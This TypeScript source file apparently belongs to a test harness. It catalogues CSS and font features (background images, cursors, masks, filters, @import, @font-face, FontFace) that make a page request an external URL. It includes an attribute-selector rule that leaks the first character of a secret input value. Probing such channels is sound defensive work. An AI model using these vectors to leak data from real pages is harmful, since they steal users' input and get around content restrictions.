import { inGroup } from './attack.ts';
import { createElement, put } from './put.ts';

function addSheet(text: string): void {
	const style = document.createElement('style');
	style.textContent = text;
	put(style);
}

function addRule(rule: string): void {
	const sheet = new CSSStyleSheet();
	sheet.replaceSync(rule);
	document.adoptedStyleSheets.push(sheet);
	put(createElement('p', { class: 'target' })).textContent = 'x';
}

const property = (name: string, title: string, write = (url: string) => `url("${url}")`) => ({
	id: `style-${name}`,
	title,
	run: ({ url }: { readonly url: string }) => {
		const target = put(createElement('p', {}));
		target.textContent = 'x';
		target.style.setProperty('display', 'list-item');
		target.style.setProperty(name, write(url));
	},
});

/** Ways through style sheets. */
export const styleAttacks = inGroup('styles', [
	property('background-image', 'The background of a text'),
	property('list-style-image', 'The mark before a line'),
	property('border-image-source', 'The picture of a border'),
	property('cursor', 'The picture of the pointer', (url) => `url("${url}"), auto`),
	property('content', 'A picture in the place of a text'),
	property('mask-image', 'A mask'),
	property('shape-outside', 'The shape that a text flows around'),
	property('filter', 'An effect from another file', (url) => `url("${url}#effect")`),
	property('clip-path', 'A path from another file', (url) => `url("${url}#path")`),
	property('fill', 'A colour from another file', (url) => `url("${url}#paint")`),
	{
		id: 'style-attribute',
		title: 'A background in the markup',
		run: ({ url }) =>
			void put(createElement('p', { style: `background: url("${url}")` })).append('x'),
	},
	{
		id: 'style-sheet',
		title: 'A style sheet written into the page',
		run: ({ url }) => {
			addSheet(`.sheet { background: url("${url}") }`);
			put(createElement('p', { class: 'sheet' })).append('x');
		},
	},
	{
		id: 'style-import',
		title: 'A style sheet that asks for another (@import)',
		run: ({ url }) => addSheet(`@import url("${url}");`),
	},
	{
		id: 'style-selector',
		title: 'A style that reads a field letter by letter (attribute selectors)',
		run: ({ url, secret }) => {
			put(createElement('input', { value: secret, type: 'text' }));
			const first = secret.slice(0, 1);
			addRule(`input[value^="${first}"] { background-image: url("${url}&first=${first}") }`);
		},
	},
	{
		id: 'style-made',
		title: 'A style sheet made by a script',
		run: ({ url }) => addRule(`p.target { background: url("${url}") }`),
	},
	{
		id: 'font-face',
		title: 'A font that a style asks for',
		run: ({ url }) => {
			addRule(`@font-face { font-family: leak; src: url("${url}") }`);
			put(createElement('p', {})).append('x');
			const target = put(createElement('p', {}));
			target.append('text');
			target.style.fontFamily = 'leak';
		},
	},
	{
		id: 'font',
		title: 'A font that a script asks for',
		run: ({ url }) => {
			const font = new FontFace('leak-by-script', `url("${url}")`);
			document.fonts.add(font);
			void font.load().catch(() => undefined);
		},
	},
]);
